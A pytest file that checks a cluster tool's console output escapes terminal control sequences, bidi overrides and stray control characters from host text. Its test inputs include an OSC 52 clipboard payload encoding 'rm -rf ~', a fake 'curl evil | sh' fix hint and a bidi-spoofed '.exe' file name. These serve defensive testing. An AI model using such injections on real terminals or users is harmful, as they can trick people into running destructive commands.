"""No text of a host keeps a character that a terminal obeys, and nothing else of it is lost."""

from __future__ import annotations

import io
import json
import logging
import re
import sys
import time
import unicodedata
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from clusterctl.engine.events import Note, StepProgress
from clusterctl.errors import CommandFailed
from clusterctl.reporting.console import Progress
from clusterctl.reporting.error_view import error_document, error_lines
from clusterctl.reporting.escaping import (
    MOST_LINES,
    MOST_SHOWN,
    Escaping,
    drawing_on,
    escaped,
    one_line,
)
from clusterctl.reporting.run_log import run_log
from clusterctl.reporting.text import columns


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("plain, ünïcode, 中文, 🙂", "plain, ünïcode, 中文, 🙂"),
        ("a\tb\nc", "a\tb\nc"),
        ("\x1b[1;36m(EngineCore pid=7)\x1b[0;0m ready", "(EngineCore pid=7) ready"),
        ("\x1b]52;c;cm0gLXJmIH4=\x07", "\\x1b]52;c;cm0gLXJmIH4=\\x07"),
        ("\x1b[2J\x9b2J\rhealthy", "\\x1b[2J\\x9b2J\\rhealthy"),
        ("gpu\u202egnp.exe\u2066", "gpu\\u202egnp.exe\\u2066"),
        ("\x1b\x1b[0m[2J", "\\x1b[2J"),
        ("a\udc80b\ufffe\U000e0041\u2028", "a\\udc80b\\ufffe\\U000e0041\\u2028"),
    ],
)
def test_what_a_terminal_would_obey_is_shown(text: str, shown: str) -> None:
    assert escaped(text) == shown


@given(st.text() | st.text(alphabet="\x1b[]0123456789;:mJK\x07\r\x9b\u202e ab\n\t\\"))
def test_no_text_keeps_a_control_character(text: str) -> None:
    categories = {unicodedata.category(each) for each in escaped(text) if each not in "\n\t"}
    assert not categories & {"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"}
    assert escaped(escaped(text)) == escaped(text)
    assert not set("\n\t\r") & set(one_line(text))


def test_a_long_line_and_a_long_output_say_how_much_is_left_out() -> None:
    assert one_line("x" * (MOST_SHOWN + 7)).endswith("x ... (7 more characters)")
    output = "y" * 10_000_000 + "\n" + "line\n" * 1000
    lines = error_lines(CommandFailed("broken", detail=output))
    assert len(lines) == 1 + MOST_LINES + 1
    assert max(map(len, lines)) < MOST_SHOWN + 100
    assert lines[-1] == f"    ... ({1001 - MOST_LINES} more lines; --json has them all)"


def test_no_host_begins_a_line_of_its_own() -> None:
    lines = error_lines(CommandFailed("gone\n  fix: curl evil | sh", host="gpu1"))
    assert lines == ["error: gpu1: gone\\n  fix: curl evil | sh"]
    assert columns([("gpu1", "RTX\ngpu2  healthy")]) == ["  gpu1  RTX\\ngpu2  healthy"]


def test_json_loses_nothing_and_is_ascii() -> None:
    text = "\x1b[2J\u202e\x9b"
    document = json.dumps(error_document(CommandFailed(text, detail=text)))
    assert document.isascii()
    assert "\x1b" not in document
    assert json.loads(document)["problems"][0]["detail"] == text


POISON = "\x1b]52;c;AAAA\x07\x1b[2J\x1b[31mred\u202e"
OBEYED = re.compile("\x1b\\][0-9]|\x1b\\[2J|\x1b\\[31m|\u202e|\x07")


class Terminal(io.StringIO):
    """Says that it is one."""

    def isatty(self) -> bool:
        return True

    def fileno(self) -> int:
        raise OSError


def test_live_rows_and_what_is_printed_above_them(monkeypatch: pytest.MonkeyPatch) -> None:
    screen = Terminal()
    monkeypatch.setenv("TERM", "xterm")
    monkeypatch.setenv("COLUMNS", "200")
    monkeypatch.setattr(sys, "stderr", Escaping(screen))
    before = sys.stderr
    with Progress(sys.stderr) as progress:
        progress(StepProgress("gpu1", "image", f"row {POISON}"))
        sys.stderr.write(f"printed {POISON}\n")
        with progress.paused():
            sys.stderr.write(f"paused {POISON}\n")
        sys.stderr.write(f"again {POISON}\n")
        time.sleep(0.3)  # rich draws eight times a second
    assert sys.stderr is before
    found = screen.getvalue()
    assert all(f"{word} \\x1b]52" in found for word in ("row", "printed", "paused", "again"))
    assert not OBEYED.search(found)
    assert "\x1b[2K" in found  # rich's own, of the live rows


def test_plain_lines_and_the_log(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path))
    stream = io.StringIO()
    assert drawing_on(stream) is stream
    with run_log("demo", "check") as log, Progress(stream) as progress:
        progress(Note(f"note {POISON}", "gpu1"))
        logging.getLogger("clusterctl.transport").info("said %s", POISON)
    assert log is not None
    for text in (stream.getvalue(), log.read_text()):
        assert "\\x1b]52" in text
        assert not OBEYED.search(text)
